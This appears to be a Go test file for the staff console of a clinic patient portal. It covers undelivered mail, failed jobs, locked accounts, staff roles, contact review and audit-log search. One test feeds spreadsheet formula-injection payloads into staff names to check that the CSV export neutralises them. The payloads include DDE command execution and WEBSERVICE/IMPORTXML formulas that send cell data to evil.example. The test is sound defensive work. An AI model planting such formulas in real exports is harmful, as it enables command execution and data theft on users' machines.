package console_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"portico/internal/access"
	"portico/internal/account"
	"portico/internal/ids"
	"portico/internal/lang"
	"portico/internal/notify"
	"portico/internal/registry"
	"portico/internal/store"
	"portico/internal/testkit"
	"portico/internal/web"
)

// A message that did not arrive is seen in words, sent again, or closed with a
// reason; whoever may not find patients learns no name.
func TestUndelivered(t *testing.T) {
	k := open(t)
	id := k.add(maria)
	desk, _ := k.hire("Jordan Kim", "front_desk")
	admin, _ := k.hire("Sam Whitfield", "administrator")
	if p := desk.Get("/staff/undelivered").Want(200, "Undelivered"); p.Has("main form") || waiting(p, "/staff/undelivered") != "" {
		t.Error("there is something undelivered before there is")
	}
	lose := func() string { return k.lose(id) }
	one, two := lose(), lose()
	list := desk.Get("/staff/undelivered")
	row := list.Text("#undeliveredlist tbody")
	if !strings.HasPrefix(waiting(list, "/staff/undelivered"), "2") || !strings.Contains(row, "takes no messages") || !strings.Contains(row, "Maria") {
		t.Errorf("the list: %q, waiting %q", row, waiting(list, "/staff/undelivered"))
	}
	for _, path := range []string{"/staff/undelivered", "/staff/undelivered/" + one} {
		if p := admin.Get(path).Want(200, ""); p.Has(`main a[href*="/staff/patients/"]`) || strings.Contains(p.Text("main"), "Maria") {
			t.Error("an administrator is led to a patient at", path)
		}
	}
	p := desk.Get("/staff/undelivered/"+one).Want(200, "Letter sent")
	if about := p.Text(card("about")); !strings.Contains(about, "mail_550") || !strings.Contains(about, "m•") || strings.Contains(about, "maria@") || !p.Has(`a[href="/staff/patients/`+string(id)+`"]`) {
		t.Errorf("the message: %q", about)
	}
	refused(t, p.Submit(card("close")+" form"), "dealt with")
	refused(t, p.Submit(card("again")+" form", "to", "nobody"), "no longer their contact")
	p = done(t, desk.Get(p.Path).Submit(card("again")+" form"), "on its way")
	if strings.Contains(p.Text("#undeliveredlist"), one) || !strings.HasPrefix(waiting(p, "/staff/undelivered"), "1") {
		t.Error("it is still there")
	}
	if got := k.one(`SELECT state FROM outbox WHERE id = $1`, one); got != "queued" {
		t.Errorf("it is %s", got)
	}
	last := desk.Get("/staff/undelivered/" + two)
	done(t, last.Submit(card("close")+" form", "how", "told"), "off the list")
	done(t, last.Submit(card("again")+" form"), "already") // on a page from before
}

// lose makes a notice to a patient that the mail server refused.
func (k *clinic) lose(id ids.Patient) (msg string) {
	k.change(func(tx *store.Tx) (err error) {
		n := notify.Message{To: maria.Email, Channel: notify.Mail, Lang: lang.En, Notice: notify.LetterSent{}, Patient: id}
		if _, err := k.app.Outbox.Send(ctx, tx, n); err != nil {
			return err
		}
		msg, err = store.Get(ctx, tx, store.One[string], `
			UPDATE outbox SET state = 'failed', why = 'mail_550', attempt = 1, settled_at = $1, again_until = $2
			WHERE state = 'queued' AND kind = 'letter_sent' RETURNING id`, store.Time(tx.Now), store.Time(tx.Now.Add(time.Hour)))
		return err
	})
	return msg
}

// What failed is seen in words, run again, or dropped with a reason; nobody else sees it.
func TestFailedWork(t *testing.T) {
	k := open(t)
	admin, _ := k.hire("Sam Whitfield", "administrator")
	if p := admin.Get("/staff/jobs").Want(200, "Failed work"); p.Has("main form") {
		t.Error("something failed before it did")
	}
	one, two := k.park("sharing.make"), k.park("notify.send")
	p := admin.Get("/staff/jobs")
	if got := p.Text(card(one)); !strings.Contains(got, "Make a download") || !strings.Contains(got, "16 times") || !strings.Contains(got, "disk full") {
		t.Errorf("it reads %q", got)
	}
	done(t, p.Submit(card(one)+` form[action$="/retry"]`), "tried again")
	refused(t, admin.Get("/staff/jobs").Submit(card(two)+` form[action$="/drop"]`), "not needed")
	p = done(t, admin.Get("/staff/jobs").Submit(card(two)+` form[action$="/drop"]`, "why-"+two, "pointless"), "dropped")
	if p.Has("main form") || k.one(`SELECT state FROM job WHERE id = $1`, one) != "waiting" || k.one(`SELECT CAST(COUNT(*) AS TEXT) FROM job WHERE id = $1`, two) != "0" {
		t.Error("it was not run again, or not dropped")
	}
	for _, detail := range []string{"sharing.make", "notify.send:pointless"} {
		if k.one(`SELECT CAST(COUNT(*) AS TEXT) FROM audit_entry WHERE action IN ('job.retried', 'job.dropped') AND detail = $1`, detail) != "1" {
			t.Errorf("no line %s", detail)
		}
	}
}

// park leaves a job that was given up.
func (k *clinic) park(kind string) string {
	id := string(ids.NewJob())
	k.change(func(tx *store.Tx) error {
		_, err := tx.Exec(ctx, `INSERT INTO job (id, kind, args, state, ready_at, attempt, why, created_at, parked_at) VALUES ($1, $2, '{}', 'parked', $3, 16, 'disk full', $3, $3)`, id, kind, store.Time(tx.Now))
		return err
	})
	return id
}

// freeze opens an account for a patient and has its owner disown it.
func (k *clinic) freeze(p ids.Patient, name string) (id ids.Account) {
	k.t.Helper()
	var path string
	k.change(func(tx *store.Tx) (err error) {
		if id, err = k.app.Accounts.Open(ctx, tx, account.NewAccount{Patient: p, UserName: name, Hash: "none", Recovery: account.NewRecoveryCodes(), Lang: lang.En,
			Factors: []account.NewFactor{{Kind: account.TOTP, Secret: []byte("12345678901234567890")}}}); err != nil {
			return err
		}
		made, err := k.app.Accounts.NotMe(ctx, tx, id, "opened")
		path = string(made)
		return err
	})
	if err := k.app.Accounts.Disown(ctx, access.NewVisitor("192.0.2.9", "test"), strings.TrimPrefix(path, "/not-me/")); err != nil {
		k.t.Fatal(err)
	}
	return id
}

func TestFrozenAccounts(t *testing.T) {
	k := open(t)
	one, two := k.freeze(k.add(maria), "maria.home.one"), k.freeze(k.add(ruth), "ruth.home.two")
	b, _ := k.hire("Jordan Kim", "front_desk")
	list := b.Get("/staff/frozen").Want(200, "Locked accounts")
	if len(list.All("#frozenlist tbody tr")) != 2 {
		t.Fatalf("the list: %q", list.Text("#frozenlist"))
	}
	p := b.Get("/staff/frozen/" + string(one))
	refused(t, p.Submit(card("decide")+" form"), "")
	late := b.Get("/staff/frozen/" + string(one))
	done(t, p.Submit(card("decide")+" form", "to", "active"), "open again")
	done(t, late.Submit(card("decide")+" form", "to", "closed"), "Someone else")
	done(t, b.Get("/staff/frozen/"+string(two)).Submit(card("decide")+" form", "to", "closed"), "closed")
	if got := k.one(`SELECT state FROM account WHERE id = $1`, one) + k.one(`SELECT state FROM account WHERE id = $1`, two); got != "activeclosed" {
		t.Errorf("the accounts are %s", got)
	}
	if p := b.Get("/staff/frozen/" + string(one)); p.Status != 404 {
		t.Errorf("a settled one answers %d", p.Status)
	}
}

func TestPeople(t *testing.T) {
	k := open(t)
	b, self := k.hire("Sam Whitfield", "administrator")
	p := b.Get("/staff/people").Want(200, "Staff")
	bad := refused(t, p.Submit(card("new")+" form", "name", "Ivy New", "email", "not an address", "roles", "front_desk"), "")
	if bad.Attr(card("new")+" input[name=name]", "value") != "Ivy New" || bad.Attr(card("new")+" input[name=email]", "value") != "not an address" || !bad.Has(card("new")+" input[value=front_desk][checked]") || bad.Text("#email-error") == "" {
		t.Error("what was typed is gone, or the problem stands nowhere")
	}
	refused(t, p.Submit(card("new")+" form", "name", "Ivy New", "email", "ivy@clinic.example"), "")                   // no role
	refused(t, p.Submit(card("new")+" form", "name", "Ivy New", "email", "ivy@clinic.example", "roles", "owner"), "") // no such role
	p = done(t, p.Submit(card("new")+" form", "name", "Ivy New", "email", "ivy@clinic.example", "roles", "front_desk"), "on its way")
	ivy := p.Path
	refused(t, b.Get("/staff/people").Submit(card("new")+" form", "name", "Ivy Too", "email", "IVY@clinic.example", "roles", "auditor"), "")
	refused(t, p.Submit(card("rolecard")+" form", "roles", ""), "")
	p = done(t, b.Get(ivy).Submit(card("rolecard")+" form", "roles", "auditor"), "roles are saved")
	if !p.Has(card("rolecard")+" input[value=auditor][checked]") || p.Has(card("rolecard")+" input[value=front_desk][checked]") {
		t.Error("the roles are not those chosen")
	}
	k.c.Move(time.Minute)
	done(t, b.Get(ivy).Submit(`form[action$="/link"]`), "new link")
	p = done(t, b.Get(ivy).Submit(`form[action$="/disable"]`), "no access")
	if p.Has(`form[action$="/link"]`) || p.Has(`form[action$="/disable"]`) {
		t.Error("a disabled person can be sent a link")
	}
	done(t, p.Submit(`form[action$="/enable"]`), "access again")
	me := "/staff/people/" + string(self)
	if p := b.Get(me); p.Has("main form") {
		t.Error("one can change oneself")
	}
	_, v := b.Get("/staff").Fields(`form[action="/staff/signout"]`)
	v.Set("roles", "auditor")
	for _, what := range []string{"/roles", "/disable"} {
		if p := b.Post(me+what, v); p.Status != 422 {
			t.Errorf("%s oneself: %d", what, p.Status)
		}
	}
	if k.one(`SELECT roles || state FROM staff WHERE id = $1`, self) != "administratoractive" {
		t.Error("somebody changed themselves")
	}
}

// What the page of roles says is what holds, and who works in no office learns no names.
func TestRolesPageSaysWhatHolds(t *testing.T) {
	k := open(t)
	admin, _ := k.hire("Sam Whitfield", "administrator")
	clerk, _ := k.hire("Jordan Kim", "front_desk")
	auditor, _ := k.hire("Dana Osei", "auditor")
	for _, l := range lang.All {
		p := admin.Get("/staff/roles?lang="+string(l)).Want(200, l.T("office.roles.title"))
		for r, tasks := range access.Roles {
			said := p.Text("section.card:has(#role-" + string(r) + ")")
			for _, role := range access.Roles {
				for _, task := range role {
					if may := slices.Contains(tasks, task); strings.Contains(said, l.T("office.task."+string(task))) != may {
						t.Errorf("%s: the card of %s says otherwise than %v about %s", l, r, may, task)
					}
				}
			}
		}
		if rows := len(p.All("#tasks tbody tr")); rows < 10 {
			t.Errorf("%d tasks", rows)
		}
	}
	if p := auditor.Get("/staff/roles"); !strings.Contains(p.Text("section.card:has(#role-front_desk)"), "Jordan Kim") || p.Has(`a[href^="/staff/people/"]`) {
		t.Error("an auditor does not learn who has a role, or is led where they may not go")
	}
	p := clerk.Get("/staff/roles").Want(200, "Who may do what")
	if strings.Contains(p.Text("main"), "Sam Whitfield") || !strings.Contains(p.Text(card("mine")), "Front desk") || strings.Contains(p.Text(card("mine")), "Auditor") ||
		!strings.Contains(p.Text("section.card:has(#role-front_desk)"), "Your role") || strings.Contains(p.Text("section.card:has(#role-auditor)"), "Your role") {
		t.Errorf("a clerk reads %q", p.Text("main"))
	}
}

// A clerk whose access ends in the middle of a form is told, and nothing is written.
func TestDisabledInTheMiddleOfAForm(t *testing.T) {
	for what, want := range map[string]string{"/disable": "Your access to the staff pages has ended", "/sessions": "You are signed out"} {
		k := open(t)
		id := k.add(maria)
		admin, _ := k.hire("Sam Whitfield", "administrator")
		clerk, who := k.hire("Jordan Kim", "front_desk")
		form := clerk.Get("/staff/patients/"+string(id)+"/issue").Want(200, "")
		done(t, admin.Get("/staff/people/"+string(who)).Submit(`form[action$="`+what+`"]`), "")
		p := form.Submit("main form", "by", "letter")
		if p.Path != "/staff/ended" || !strings.Contains(p.Text("main"), want) || !strings.Contains(p.Text(".note-warn"), "not saved") {
			t.Errorf("%s leads to %s: %q", what, p.Path, p.Text("main"))
		}
		if n := k.one(`SELECT CAST(COUNT(*) AS TEXT) FROM activation_code`); n != "0" {
			t.Errorf("%s: %s codes were made", what, n)
		}
		if p := clerk.Get("/staff"); p.Path != "/staff/signin" {
			t.Errorf("then %s", p.Path)
		}
	}
}

// A patient's new address goes into the chart, or stays out of it; either way it
// works for the portal, the patient is told, and the second to decide is late.
func TestContactsAreReviewed(t *testing.T) {
	for to, want := range map[string]string{"replace": "new@example.com", "add": "maria@example.com new@example.com", "reject": "maria@example.com"} {
		k := open(t)
		id := k.add(maria)
		con := k.prove(id, "maria.new", "new@example.com")
		b, _ := k.hire("Jordan Kim", "front_desk")
		list := b.Get("/staff/contacts").Want(200, "New contacts")
		if got := list.Text("#contactslist"); !strings.Contains(got, "Maria Alvarez") || strings.Contains(got, "new@example.com") {
			t.Errorf("the list: %q", got)
		}
		p := b.Get("/staff/contacts/" + con)
		if !strings.Contains(p.Text(card("proven")), "new@example.com") || !strings.Contains(p.Text(card("onfile")), "maria@example.com") {
			t.Errorf("beside each other: %q", p.Text("main"))
		}
		refused(t, p.Submit(card("decide")+" form"), "Choose")
		if to == "reject" {
			refused(t, b.Get("/staff/contacts/"+con).Submit(card("decide")+" form", "to", to), "why")
		}
		late := b.Get("/staff/contacts/" + con)
		done(t, b.Get("/staff/contacts/"+con).Submit(card("decide")+" form", "to", to, "why", "chart_right"), "told the patient")
		done(t, late.Submit(card("decide")+" form", "to", "replace"), "already decided")
		var mails []string
		r, err := k.app.Registry.Numbered(ctx, duty, maria.Number)
		if err != nil {
			t.Fatal(err)
		}
		k.change(func(tx *store.Tx) error {
			on, err := k.app.Registry.Person(ctx, tx, r)
			for _, c := range on.Contacts {
				if c.Kind == registry.Email {
					mails = append(mails, c.Value)
				}
			}
			return err
		})
		if slices.Sort(mails); strings.Join(mails, " ") != want {
			t.Errorf("%s: on file are %v", to, mails)
		}
		if k.one(`SELECT CAST(COUNT(*) AS TEXT) FROM outbox WHERE kind = 'contact_reviewed'`) == "0" || k.one(`SELECT CAST(COUNT(*) AS TEXT) FROM account_contact WHERE ended_at IS NULL`) != "1" {
			t.Error("the patient was not told, or lost the contact")
		}
	}
}

// prove gives a patient an account with a contact proven for it that waits for the desk.
func (k *clinic) prove(p ids.Patient, name, mail string) string {
	k.t.Helper()
	con := ids.New[string]("con")
	k.change(func(tx *store.Tx) error {
		id, err := k.app.Accounts.Open(ctx, tx, account.NewAccount{Patient: p, UserName: name, Hash: "none", Recovery: account.NewRecoveryCodes(), Lang: lang.En,
			Factors: []account.NewFactor{{Kind: account.TOTP, Secret: []byte("12345678901234567890")}}})
		if err != nil {
			return err
		}
		if _, err := tx.Exec(ctx, `INSERT INTO account_contact (id, account_id, kind, sealed, asked_at, expires_at, proven_at) VALUES ($1, $2, 'email', $3, $4, $4, $4)`,
			con, id, k.app.Keys.Seal("account_contact.sealed", con, []byte(mail)), store.Time(tx.Now)); err != nil {
			return err
		}
		_, err = tx.Exec(ctx, `INSERT INTO contact_proposal (contact_id, made_at, state) VALUES ($1, $2, 'waiting')`, con, store.Time(tx.Now))
		return err
	})
	return con
}

func TestAuditSearch(t *testing.T) {
	k := open(t)
	id := k.add(maria)
	desk, clerk := k.hire("Jordan Kim", "front_desk")
	desk.Get("/staff/patients/" + string(id))
	b, _ := k.hire("Dana Osei", "auditor")
	p := b.Get("/staff/audit").Want(200, "Audit log")
	bad := refused(t, p.Submit("main form", "from", "yesterday", "who", "Jordan"), "")
	if bad.Attr("#who", "value") != "Jordan" || bad.Attr("#from", "value") != "yesterday" {
		t.Error("what was typed is gone")
	}
	refused(t, p.Submit("main form", "whom", "MR-9999"), "")
	to := leads(b, p, "main form", "whom", maria.Number)
	if leaks(to) || !strings.HasPrefix(to, "/staff/audit?s=") {
		t.Errorf("leads to %s", to)
	}
	if other, _ := k.hire("Another Auditor", "auditor"); len(other.Get(to).All("#auditlist tbody tr")) == len(b.Get(to).All("#auditlist tbody tr")) {
		t.Error("somebody else's search opens for another session")
	}
	if got := b.Get(to); len(got.All("#auditlist tbody tr")) == 0 || !strings.Contains(got.Text("#auditlist"), "Jordan Kim") {
		t.Errorf("who opened the chart: %q", got.Text("#auditlist"))
	}
	ask := func() *testkit.Page { return b.Get("/staff/audit") } // a form works once
	to = leads(b, ask(), "main form", "staff", string(clerk), "action", "patient.seen")
	if got := b.Get(to); len(got.All("#auditlist tbody tr")) != 1 {
		t.Errorf("by person and action: %q", got.Text("#auditlist"))
	}
	refused(t, ask().Submit("main form", "action", "made.up"), "list")
	refused(t, ask().Submit("main form", "from_time", "10:00"), "day")
	refused(t, ask().Submit("main form", "to", "2026-03-10", "to_time", "25:99"), "14:30")
	// Ordered by another field, and from there into a table that keeps the search.
	got := b.Get(b.Get(to).Attr("#auditlist thead th:nth-child(6) a", "href"))
	if got.Status != 200 || got.Attr("#auditlist thead th:nth-child(6)", "aria-sort") != "ascending" || len(got.All("#auditlist tbody tr")) != 1 {
		t.Errorf("ordered: %d %q", got.Status, got.Text("#auditlist"))
	}
	csv := got.Attr(`a[href^="/staff/audit.csv"]`, "href")
	if p := b.Get(csv).Want(200, "Confirm that it is you"); strings.Contains(p.Body, "patient.seen") {
		t.Error("the list is taken out without a new proof")
	}
	testkit.RaiseStaff(t, k.app.DB, b.Cookie(web.StaffCookie))
	if file := b.Get(got.Attr(`a[href^="/staff/audit.csv"]`, "href")); strings.Count(file.Body, "\n") != 2 || !strings.Contains(file.Body, "patient.seen") {
		t.Errorf("the table: %s", file.Body)
	}
}

// T43: whatever stands in a name, no cell of the export is a formula.
func TestTheExportComputesNothing(t *testing.T) {
	k := open(t)
	signs := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "@SUM(1+1)*cmd", "+1+1", "-2+3", "=1\n=2", "\";=1;\"", "＝1+1", "%0A=1", "|calc", "\u00a0=1",
		"=WEBSERVICE(\"https://evil.example/\"&A1)", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=IMPORTRANGE(\"x\",\"a1\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"soffice\",\"x\",\"y\")",
		"@=1", "+@=1", "-@=1", "--1", "++1", "=-1", "=+1", "= 1", "\v=1", "\f=1", "\u2003=1", "\ufeff=1", "\u200b=1", "=\"\"", "'=1", "\"=1\"", "，=1"}
	for i, s := range signs {
		b, _ := k.hire(s+fmt.Sprint("1+", i), "front_desk")
		b.Get("/staff/codes")
	}
	b, _ := k.hire("Dana Osei", "auditor")
	testkit.RaiseStaff(t, k.app.DB, b.Cookie(web.StaffCookie))
	file := b.Get("/staff/audit.csv")
	if file.Status != 200 || !strings.HasPrefix(file.Header.Get("Content-Type"), "text/csv") || file.Header.Get("Content-Disposition") != `attachment; filename="audit.csv"` {
		t.Fatalf("%d %v", file.Status, file.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(file.Body)).ReadAll()
	if err != nil || len(rows) < len(signs)+1 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	armed := 0
	for _, r := range rows {
		for _, cell := range r {
			if strings.HasPrefix(cell, "'") {
				armed++
			}
			if c := strings.TrimLeft(cell, " \u00a0\v\f\u2003\u200b\ufeff"); c != "" && strings.ContainsRune("=+-@\t\r\n|%＝", []rune(c)[0]) {
				t.Errorf("a cell begins %q", cell)
			}
		}
	}
	if armed < len(signs)-4 {
		t.Errorf("only %d cells were made harmless: the names are not in the export", armed)
	}
}

// What waits stands beside its place on every staff page, also of other rooms, for
// those whose work it is.
func TestTheRailCountsWhatWaits(t *testing.T) {
	k := open(t)
	k.park("app.sweep")
	admin, _ := k.hire("Ada Admin", "administrator")
	auditor, _ := k.hire("Otto Audit", "auditor")
	for _, path := range []string{"/staff", "/staff/schedule", "/staff/emergencies", "/staff/feeds", "/staff/clinic", "/staff/account"} {
		if got := admin.Get(path).Want(200, "").Text(`.rail a[href="/staff/jobs"] .count`); !strings.HasPrefix(got, "1") {
			t.Errorf("%s says %q", path, got)
		}
	}
	if p := auditor.Get("/staff/emergencies").Want(200, ""); p.Has(".rail .count") {
		t.Errorf("an auditor sees %q", p.Text(".rail"))
	}
}

// Each role's rail leads only where the role may go.
func TestRailsFollowRoles(t *testing.T) {
	k := open(t)
	for roles, want := range map[string]string{
		"front_desk":    "/staff /staff/patients /staff/codes /staff/requests /staff/undelivered /staff/frozen /staff/contacts /staff/schedule /staff/checkins /staff/recovery",
		"administrator": "/staff /staff/undelivered /staff/people /staff/jobs /staff/feeds /staff/schedule /staff/forms /staff/emergencies /staff/terms /staff/clinic /staff/recovery",
		"auditor":       "/staff /staff/audit /staff/emergencies",
		"clinician":     "/staff /staff/patients /staff/schedule /staff/results",
		"records":       "/staff /staff/patients /staff/corrections /staff/imports",
	} {
		b, _ := k.hire("Somebody", roles)
		p := b.Get("/staff").Want(200, "Desk")
		var got []string
		for _, n := range p.All("nav li a[href^='/staff']") {
			for _, a := range n.Attr {
				if a.Key == "href" {
					got = append(got, a.Val)
				}
			}
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%s: %v", roles, got)
		}
		for _, path := range got {
			if p := b.Get(path); p.Status != 200 {
				t.Errorf("%s: %s answers %d", roles, path, p.Status)
			}
		}
	}
}
